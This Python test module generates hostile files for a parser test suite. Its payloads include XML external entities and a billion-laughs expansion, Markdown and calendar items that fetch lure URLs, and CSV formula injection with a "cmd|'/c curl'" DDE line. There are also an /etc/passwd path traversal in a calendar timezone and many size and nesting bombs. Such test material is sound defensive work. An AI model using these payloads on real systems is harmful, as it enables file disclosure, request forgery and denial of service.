"""Markdown, calendars, contacts, tables, XML, JSON and plain text that fetch, repeat or never end."""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from functools import partial
from typing import Final

from tests.hostile.hostile_file import HostileFile, Lure, filled

_MARKDOWN: Final = {
    "image": ("png", "words ![x](URL)"),
    "image-by-reference": ("png", "words ![x][y]\n\n[y]: URL"),
    "html": ("html", 'words <img src="URL"><iframe src="URL"></iframe>'),
    "link": ("html", "words [x](URL) <URL>"),
}
_EVENT: Final = "BEGIN:VEVENT\r\nUID:1\r\nDTSTART:20260101T000000Z\r\nSUMMARY:words\r\n"
_EVENTS: Final = {
    "attachment": ("html", "ATTACH;FMTTYPE=text/html:URL"),
    "image": ("png", "IMAGE;VALUE=URI:URL"),
    "alarm": (
        "txt",
        "BEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:URL\r\nTRIGGER:-PT0M\r\nEND:VALARM",
    ),
    "description": ("png", 'X-ALT-DESC;FMTTYPE=text/html:<img src="URL">words'),
    "source": ("txt", "SOURCE;VALUE=URI:URL\r\nURL:URL\r\nALTREP=URL:x"),
}
_CONTACTS: Final = {
    "photograph": ("png", "PHOTO;VALUE=URI:URL"),
    "key": ("txt", "KEY;VALUE=URI:URL\r\nLOGO:URL\r\nSOUND:URL"),
}


def files(lure: Lure) -> Iterator[HostileFile]:
    """Yield texts of each type that name places of ours, and bombs."""
    yield from filled(
        "Markdown", "text/markdown", _MARKDOWN, lambda words: words.encode(), lure, ("web", "file")
    )
    cards = "Calendars and contacts"
    yield from filled(cards, "text/calendar", _EVENTS, _calendar, lure, ("web", "file"))
    yield from filled(cards, "text/vcard", _CONTACTS, _contact, lure, ("web", "file"))
    for (name, media_type, kind), make in _BOMBS.items():
        yield HostileFile(kind, name, media_type, make, name in _LASTING)
    told = lure.places("txt")
    for place in ("web", "file"):
        entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{told[place]}">]><x>words &e;</x>'
        yield HostileFile(
            "Tables, XML, JSON, text", f"entity-{place}.xml", "text/xml", entity.encode
        )
        formula = f"words;=WEBSERVICE(\"{told[place]}\");=cmd|'/c curl {told[place]}'!A0\n"
        yield HostileFile(
            "Tables, XML, JSON, text", f"formula-{place}.csv", "text/csv", formula.encode
        )


def _calendar(inside: str) -> bytes:
    return f"BEGIN:VCALENDAR\r\nVERSION:2.0\r\n{_EVENT}{inside}\r\nEND:VEVENT\r\nEND:VCALENDAR".encode()


def _contact(inside: str) -> bytes:
    return f"BEGIN:VCARD\r\nVERSION:4.0\r\nFN:words\r\n{inside}\r\nEND:VCARD\r\n".encode()


def _repeated(before: str, once: str, times: int, after: str = "") -> bytes:
    return (before + once * times + after).encode()


def _photograph() -> bytes:
    packed = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(6_000_000)).decode()
    return _contact(f"PHOTO:data:image/png;base64,{packed}")


def _laughs() -> bytes:
    steps = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY e0 "ha">{steps}]><x>words &e9;</x>'.encode()


_TEXTS: Final = "Tables, XML, JSON, text"
_CARDS: Final = "Calendars and contacts"
_RULE: Final = "RRULE:FREQ=SECONDLY;BYSECOND=1;UNTIL=99991231T000000Z"
_Key = tuple[str, str, str]


def _named(
    media_type: str, kind: str, made: dict[str, Callable[[], bytes]]
) -> dict[_Key, Callable[[], bytes]]:
    return {(name, media_type, kind): make for name, make in made.items()}


_BOMBS: Final[dict[_Key, Callable[[], bytes]]] = {
    **_named("text/markdown", "Markdown", {
        "deep-quotes.md": partial(_repeated, "", ">", 200_000, " words"),
        "deep-lists.md": partial(_repeated, "", "- ", 60_000, "words"),
        "brackets.md": partial(_repeated, "words ", "[", 300_000),
        "stars.md": partial(_repeated, "words ", "*a **b ", 100_000),
        "ticks.md": lambda: " ".join("`" * number for number in range(1_500)).encode(),
        "references.md": partial(_repeated, "[a]: b\n", "[a][a] ", 200_000),
        "entities.md": partial(_repeated, "words ", "&", 600_000),
        "table.md": partial(_repeated, "|a" * 900 + "\n" + "|-" * 900 + "\n", "|w\n", 9_000),
        "html.md": partial(_repeated, "words ", "<!-- a ", 100_000),
        "links.md": partial(_repeated, "words ", "<http:", 200_000),
    }),
    **_named("text/calendar", _CARDS, {
        "repeats-each-second.ics": lambda: _calendar(_RULE),
        "many-rules.ics": lambda: _calendar("\r\n".join([_RULE] * 50_000)),
        "many-dates.ics": lambda: _calendar("EXDATE:" + "20260101," * 300_000),
        "many-events.ics": lambda: f"BEGIN:VCALENDAR\r\n{(_EVENT + 'END:VEVENT' + chr(13) + chr(10)) * 40_000}".encode(),
        "deep.ics": lambda: _calendar("BEGIN:VEVENT\r\n" * 100_000),
        "folded.ics": lambda: _calendar("SUMMARY:w" + "\r\n w" * 500_000),
        "parameters.ics": lambda: _calendar("SUMMARY" + ";A=B" * 300_000 + ":words"),
        "far-years.ics": lambda: _calendar("DTEND:99999999T999999Z\r\nDURATION:P999999999999D"),
        "zone-of-ours.ics": lambda: _calendar("DTSTART;TZID=../../../../etc/passwd:20260101T000000"),
    }),
    **_named("text/vcard", _CARDS, {
        "photograph.vcf": _photograph,
        "many-cards.vcf": lambda: _contact("") * 40_000,
        "quoted.vcf": lambda: _contact("NOTE;ENCODING=QUOTED-PRINTABLE:" + "=0D=0A=\r\n" * 200_000),
        "agents.vcf": lambda: _contact("AGENT:BEGIN:VCARD\r\n" * 60_000),
        "many-telephones.vcf": lambda: _contact("TEL;TYPE=cell:1\r\n" * 100_000),
        "charset.vcf": lambda: _contact("NOTE;CHARSET=zlib_codec;ENCODING=BASE64:eJwDAA=="),
    }),
    **_named("text/csv", _TEXTS, {
        "many-columns.csv": partial(_repeated, "words", ";w", 200_000),
        "many-rows.csv": partial(_repeated, "words\n", "w\n", 3_000_000),
        "one-cell.csv": partial(_repeated, "words;", "w", 5_000_000),
        "no-end.csv": partial(_repeated, 'words;"', "w\n", 900_000),
        "quotes.csv": partial(_repeated, "words;", '"', 900_001),
        "nul.csv": partial(_repeated, "words", ";\0;\n", 90_000),
        "formulas.csv": partial(_repeated, "words;", "=SUM(A:A);+A1;-A1;@A1\n", 9_000),
    }),
    **_named("text/xml", _TEXTS, {
        "laughs.xml": _laughs,
        "deep.xml": partial(_repeated, "", "<x>", 900_000),
        "attributes.xml": partial(_repeated, "<x ", 'a="" ', 500_000, ">words</x>"),
        "one-line.xml": partial(_repeated, "<x>", "w", 9_000_000, "</x>"),
    }),
    **_named("application/json", _TEXTS, {
        "deep.json": partial(_repeated, "", "[", 900_000, "words"),
        "deep-objects.json": partial(_repeated, "", '{"a":', 300_000),
        "number.json": partial(_repeated, "", "9", 3_000_000),
        "escapes.json": partial(_repeated, '"words', r"\ud800", 300_000, '"'),
    }),
    **_named("text/plain", _TEXTS, {
        "many-lines.txt": partial(_repeated, "words", "\n", 4_000_000),
        "form-feeds.txt": partial(_repeated, "words", "\fw", 60_000),
        "one-word.txt": partial(_repeated, "", "w", 9_000_000),
        "accents.txt": partial(_repeated, "words o", "\u0301", 400_000),
        "turned.txt": partial(_repeated, "words ", "\u202e\u2067a", 60_000),
        "escapes.txt": partial(_repeated, "words ", "\x1b[2J\x1b]0;x\x07", 60_000),
        "nothing-but-nul.txt": lambda: bytes(2_000_000),
        "lone-halves.txt": lambda: ("\ufeffwords " + "x" * 9).encode("utf-16-le") + b"\x00\xd8" * 200_000,
    }),
}  # fmt: skip
_LASTING: Final = {
    *("many-rows.csv", "many-columns.csv", "one-cell.csv", "no-end.csv"),
    *("deep-lists.md", "many-lines.txt", "one-word.txt"),
}
